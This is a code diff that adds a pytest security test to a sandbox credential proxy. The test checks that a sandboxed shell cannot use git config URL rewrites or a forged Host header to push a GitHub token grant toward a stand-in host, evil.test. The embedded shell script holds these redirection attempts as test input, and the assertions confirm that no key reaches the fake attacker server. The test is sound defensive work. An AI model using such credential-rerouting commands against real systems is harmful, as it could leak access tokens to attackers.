@@ -209,5 +209,51 @@ def test_allow_ssh_refuses_the_hosts_loopback_like_allow_host(box: Sandbox, repo
     assert "SSH-2.0-test" in ok.stdout, ok.stdout + ok.stderr
 
 
+REROUTE = r"""
+export GIT_TERMINAL_PROMPT=0 GIT_CONFIG_GLOBAL=/tmp/gitconfig
+git config --global url.http://127.0.0.1:3128/github/.insteadOf https://evil.test/
+git ls-remote https://evil.test/o/r.git >/dev/null 2>&1; echo "rerouted=$?"
+git -c url.https://evil.test/.insteadOf=https://github.com/ ls-remote https://github.com/o/r.git >/dev/null 2>&1; echo "away=$?"
+curl -s -o /dev/null -w 'host-header=%{http_code}\n' -H 'Host: evil.test'   'http://127.0.0.1:3128/github/o/r.git/info/refs?service=git-upload-pack'
+"""
+
+
+def test_the_box_cannot_send_a_grant_elsewhere_by_git_config(box: Sandbox, tmp_path: Path, report: Report) -> None:
+    """The box owns its git config (and its GIT_CONFIG_* variables): it can point any URL at the grant's
+    route, or github.com's at another host. Neither moves the credential: a route has one upstream,
+    pinned and TLS-verified by the proxy, which writes the Host header itself; another host gets no key."""
+    require_tool("git")
+    require_tool("curl")
+    from ..git_server import GitServer, bare_repo
+    from ..servers import make_ca
+    from .test_grants import TOKEN, fake_gh, with_grant
+
+    (tmp_path / "ca").mkdir()
+    ca = make_ca(tmp_path / "ca", ("github.com", "evil.test"))
+    servers = []
+    for name in ("github", "evil"):
+        root = tmp_path / name
+        root.mkdir()
+        bare_repo(root)
+        servers.append(GitServer(root, TOKEN, ca[1]).start())
+    github, evil = servers
+    with_grant(box)
+    try:
+        proc = box.relay("shell", "local", "--quiet", "--prompt", REROUTE,
+                         "--allow-host", f"github.com:443=127.0.0.1:{github.port}",
+                         "--allow-host", f"evil.test:443=127.0.0.1:{evil.port}", timeout=180,
+                         extra_env={"SSL_CERT_FILE": str(ca[0]), "PATH": fake_gh(tmp_path)})
+    finally:
+        for srv in servers:
+            srv.shutdown()
+    out = proc.stdout.splitlines()
+    report.legit("rerouted=0" in out)
+    assert "rerouted=0" in out, proc.stdout + proc.stderr[-2000:]  # evil.test's URL served by the route: github
+    assert github.heads and all("Host: github.com" in h for h in github.heads)
+    report.attack(all("Authorization" not in h for h in evil.heads))
+    assert all("Authorization" not in h for h in evil.heads), evil.heads  # the box's own request, no key
+    assert TOKEN not in proc.stdout + proc.stderr
+
+
 if __name__ == "__main__":  # pragma: no cover
     pytest.main([__file__])
